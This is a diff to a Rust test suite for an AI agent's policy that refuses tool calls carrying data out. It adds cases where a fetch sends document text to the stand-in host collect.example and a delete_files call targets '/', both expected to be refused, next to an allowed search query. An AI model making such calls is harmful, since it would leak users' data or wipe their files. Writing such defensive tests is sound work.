@@ -1010,13 +1010,21 @@ async fn tool_calls_that_carry_data_out_are_refused() {
             ),
             true,
         ),
-        // Conversation text in a URL.
+        // The document's text in a URL to a host nobody named.
         (
             call(
                 "fetch",
-                r#"{"url": "https://collect.example/?q=the+Falcon+project+codename+is+confidential"}"#,
+                r#"{"url": "https://collect.example/?cv=Jane+Roe,+engineer.+Contact"}"#,
             ),
             true,
+        ),
+        // The user's own words to a search: not data carried away.
+        (
+            call(
+                "fetch",
+                r#"{"url": "https://search.example/?q=the+Falcon+project+codename+is+confidential"}"#,
+            ),
+            false,
         ),
         // A tool the policy does not list.
         (call("delete_files", r#"{"path": "/"}"#), true),
